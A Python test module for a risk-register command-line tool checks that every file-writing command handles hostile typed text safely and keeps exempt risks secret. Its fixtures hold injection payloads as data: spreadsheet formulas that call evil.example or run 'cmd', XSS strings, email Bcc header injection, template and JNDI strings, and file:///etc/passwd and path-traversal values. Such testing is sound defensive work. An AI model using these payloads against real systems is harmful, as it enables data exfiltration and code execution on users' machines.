"""A quarter in which people typed all that could do harm, taken through every command that writes a file.

Every text column of the returns has every text that a program might run, follow or calculate; names of units, people,
boards and owners have too. Every text of an exempt risk has a word that stands nowhere else.
"""

from collections.abc import Mapping, Sequence
from datetime import date
from pathlib import Path

import openpyxl
from click.testing import CliRunner

from riskbook import excel
from riskbook.cli import main
from riskbook.directory import Directory, Person, Unit
from riskbook.forms import ACTIONS, RISKS, Column
from riskbook.kinds import Text
from riskbook.report import directory as directories
from tests import makers
from tests.examples import agreed
from tests.test_decide import filled

ROUND = "2026-27-q2"
LONG = "A name that nobody would type in a hurry and that does not end " * 5

ACTIVE = (
    *(
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
    ),
    *(
        '=WEBSERVICE("http://evil.example")',
        "=IMPORTXML(A1)",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "\t=1+1",
        "\n=1+1",
    ),
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "<r>a & b</r>", "]]>"),
    *("javascript:alert(1)", "[a](javascript:alert(1))", "![b](http://evil.example/b.png)", "<http://evil.example>"),
    *(
        "http://evil.example/c",
        "www.evil.example",
        "a | b || c",
        "`code` ```more",
        "# Heading\n- list\n> quote",
        "*d* __e__",
    ),
    *("Subject: x\r\nBcc: eve@evil.example", "x\nBcc: eve@evil.example\n\nbody", "{{ 7 * 7 }} {% raw %}", "${jndi:x}"),
    *(
        "\\\\evil.example\\share\\f.xlsx",
        "file:///etc/passwd",
        "'=1+1",
        "''@x",
        "&lt;b&gt; &#65;",
        "%0d%0a",
    ),
    *("mailto:eve@evil.example?body=x", "[c]: http://evil.example 'd'", "&D&P&[File]", "<!--[if mso]><x/><![endif]-->"),
)
"""What people type, or paste, that some program somewhere would make something of."""

DIRECTORY = Directory(
    (
        Unit("DIR", "The directorate", "Directorate", manager="Director", email="dcs@brackenshire.example"),
        Unit(
            "FHS",
            '=HYPERLINK("http://evil.example","x")',
            "Service",
            manager="Ana\nBcc: eve@evil.example",
            email="ana@brackenshire.example\nbcc: eve@evil.example",
        ),
        Unit(
            "FRD",
            "[Front](javascript:alert(1)) <script>alert(1)</script>",
            "Team",
            "FHS",
            manager="@Head",
            email="frd@brackenshire.example",
        ),
        Unit("CON", "..\\..\\x", "Team", "FHS", manager="a | b", email="con@brackenshire.example"),
        Unit("ASM", LONG, "Team", "FHS", manager="=1+1", email="asm@brackenshire.example"),
        Unit(
            "PRJ", "a:b|c?*", "Project", "FHS", manager="Lead", email="prj@brackenshire.example", board="..\\..\\board"
        ),
        Unit("PAR", "aux. ", "Partnership", "FHS", manager="Lead", email="par@brackenshire.example", board="CON"),
        Unit("PAS", "\u202egnp.exe", "Partnership", "FHS", email="pas@brackenshire.example", board=f"<b>{LONG}"),
    ),
    (
        Person(
            'A"da\nBcc: eve@evil.example', "AD ../../Owner", "ada@brackenshire.example", roles=("Assistant Director",)
        ),
        Person("=Bo", "CON", "bo@brackenshire.example", roles=("SLT", "Assistant Director")),
        Person("<b>Cy</b>", "Chief", "cy@brackenshire.example", roles=("DLT", "SLT")),
    ),
)
MAIL = """
[mail]
sender = "risk@brackenshire.example"
domains = ["brackenshire.example"]
report = [{ to = "clerk@brackenshire.example", exempt = true }]

[privacy]
allowed_domains = ["evil.example", "brackenshire.example"]
"""
LAST = """
    DIR-01 4x4 was 4x4 "Placements cost more than planned" owner="AD ../../Owner"
    DIR-02 4x5 was 4x4 "The zqlastdir secret of the directorate" owner="CON" event="A zqlastevent thing" exempt
    FRD-001 4x4 was 4x3 "Calls are dropped" parent=DIR-02
    FRD-002 4x4 was 3x3 "The zqlasttitle of a quarter ago" event="It was zqlastevent2 then" exempt
    FRD-003 4x3 was 3x3 "What was open said zqwasopen openly"
      + FRD-A001 due 2026-08-31
    ASM-001 3x3 was 3x3 "Visits are late"
"""


def written(book: Path, ending: str = "") -> list[Path]:
    """Every file that riskbook wrote in the book, but its own copies in the folder kept."""
    apart = {"kept", "returns", "sheets", "2026-27-q1"}
    found = (
        path
        for path in book.rglob(f"*{ending}")
        if path.is_file() and path.name not in ("directory.xlsx", "riskbook.toml")
    )
    return sorted(path for path in found if not apart & {*path.relative_to(book).parts})


def free_texts(columns: Sequence[Column]) -> list[Column]:
    """The columns in which a manager types words."""
    return [one for one in columns if isinstance(one.kind, Text) and one.on_form and not one.ours]


def secret(*where: object) -> str:
    """A text of an exempt risk: one word in it is its own."""
    return f"The word zq{''.join(map(str, where)).replace('_', '')} stands nowhere else"


def front_door(texts: Sequence[str]) -> bytes:
    """A return of which every text column has every one of the texts; and exempt risks, every text of them a secret."""
    columns = [column.key for column in free_texts(RISKS)]
    rows: list[dict[str, object]] = [
        {
            **{key: texts[(row + at) % len(texts)] for at, key in enumerate(columns)},
            "ref": f"NEW-{row + 1}",
            "impact": 4,
            "likelihood": 1 + row % 5,
            "own": texts[row],
        }
        for row in range(len(texts))
    ]
    rows[0] |= {"ref": "FRD-001", "parent": "DIR-02"}
    for number, ref in enumerate(("FRD-002", "FRD-003", "NEW-901"), 1):
        hidden = {key: secret("risk", key, number) for key in columns}
        rows.append(
            {**hidden, "ref": ref, "impact": 5, "likelihood": 5, "audience": "Exempt", "own": secret("own", number)}
        )
        rows[-1] |= {"escalate": "Yes", "exposure": secret("held", number), "raised": secret("day", number)}
    acts = [column.key for column in free_texts(ACTIONS)]
    actions: list[dict[str, object]] = [
        {**{key: texts[(row + at) % len(texts)] for at, key in enumerate(acts)}, "risk_ref": f"NEW-{row + 1}"}
        for row in range(1, len(texts))
    ]
    for number, ref in enumerate(("FRD-002", "FRD-003", "NEW-901"), 1):
        actions.append({**{key: secret("action", key, number) for key in acts}, "risk_ref": ref})
        actions[-1] |= {"due": secret("due", number), "own": secret("actown", number)}
    return _returned("FRD", rows, actions)


def directorate() -> bytes:
    """The directorate's return: an open risk, and an exempt one with secrets."""
    columns = [column.key for column in free_texts(RISKS)]
    hidden = {key: secret("dir", key) for key in columns} | {"owner": "CON"}
    told: list[dict[str, object]] = [
        {"ref": "DIR-01", "title": "Placements cost more", "owner": "AD ../../Owner", "impact": 5, "likelihood": 4},
        {**hidden, "ref": "DIR-02", "impact": 5, "likelihood": 5, "audience": "Exempt"},
    ]
    return _returned("DIR", told, [{"risk_ref": "DIR-02", "what": secret("diraction"), "lead": "CON"}])


def _returned(unit: str, rows: Sequence[Mapping[str, object]], actions: Sequence[Mapping[str, object]]) -> bytes:
    """A return, its cells typed as they are: text is text whatever it looks like."""

    def fill(book: openpyxl.Workbook) -> None:
        for name, columns, told in (("Risks", RISKS, rows), ("Actions", ACTIONS, actions)):
            keys = ["ref", *(column.key for column in columns if column.on_form and not column.ours), "own"]
            header = {column.key: column.header for column in columns} | {"own": "Our own column"}
            sheet = book[name]
            sheet.delete_rows(1)
            for at, key in enumerate(keys, 1):
                sheet.cell(1, at, header[key])
                for row, one in enumerate(told, 2):
                    value = one.get(key)
                    if value is not None:
                        makers.put(sheet, row, at, makers.Words(value) if isinstance(value, str) else value)

    start = makers.started(unit=unit, filled_by=makers.Words(ACTIVE[0]))
    return makers.workbook("", "", start=start, whole=False, spoil=fill)


def book(root: Path, texts: Sequence[str]) -> Path:
    """The book before any command."""
    made = makers.small_book(root, last=LAST, frd=front_door(texts), dir=directorate())
    (made / "directory.xlsx").write_bytes(excel.report(directories.document(DIRECTORY, agreed())))
    settings = (made / "riskbook.toml").read_text(encoding="utf-8")
    (made / "riskbook.toml").write_text(settings + MAIL, encoding="utf-8")
    return made


SOME = (("merge",), ("mail", "report"))
"""What is tried every day."""
EVERY = (
    *(
        ("issue",),
        ("merge",),
        ("report", "--for", "all"),
        ("report", "--for", "dlt"),
        ("report", "--for", "FRD", "--plan"),
    ),
    *(("interviews",), ("decide", "--sheet"), ("decide", "dlt.xlsx"), ("export", "csv"), ("export", "pplus")),
    *(
        ("export", "corporate"),
        ("propose",),
        ("calendar",),
        ("mail", "issue"),
        ("mail", "chase"),
        ("mail", "corrections"),
    ),
    *(("mail", "interviews"), ("mail", "report"), ("check", "returns", "--corrections", "back")),
)
"""Every command that writes a file."""


def run_all(book: Path, commands: Sequence[Sequence[str]]) -> None:
    """Type commands one after the other; none of them refuses. The meeting fills in its sheet before it is taken."""
    places = {"dlt.xlsx": book / "sheets" / "dlt.xlsx", "returns": book / ROUND / "returns", "back": book / "back"}
    for words in commands:
        if words[-1] == "dlt.xlsx":
            _meet(book / ROUND / f"decision-sheet-{ROUND}.xlsx", places["dlt.xlsx"])
        result = CliRunner().invoke(main, [*(str(places.get(word, word)) for word in words), "--book", str(book)])
        assert result.exit_code in (0, 1), (words, result.output, result.exception)
        assert result.exception is None or isinstance(result.exception, SystemExit), (words, result.exception)


def _meet(sheet: Path, filled_in: Path) -> None:
    """Decide on two open risks in words that could do harm, and on an exempt one in secret."""
    said = {"Body": "DLT", "Date": date(2026, 10, 13), "Review by": date(2027, 1, 31)}
    kept = {"Decision": "Manage at this level", **said}
    rows = {
        "FRD-001": {**kept, **_typed(by=ACTIVE[0], rationale=ACTIVE[1], minute="@1")},
        "FRD-004": {"Decision": "Close", **said, **_typed(by=ACTIVE[13], rationale=ACTIVE[19], minute=ACTIVE[24])},
        "FRD-002": {**kept, **_typed(by=secret("by"), rationale=secret("rationale"), minute=secret("minute"))},
    }
    filled_in.parent.mkdir(exist_ok=True)
    filled_in.write_bytes(filled(sheet.read_bytes(), rows))


def _typed(by: str, rationale: str, minute: str) -> dict[str, makers.Words]:
    """What a meeting types in a row, as text."""
    told = {"Decided by": by, "Rationale": rationale, "Minute": minute}
    return {heading: makers.Words(words) for heading, words in told.items()}
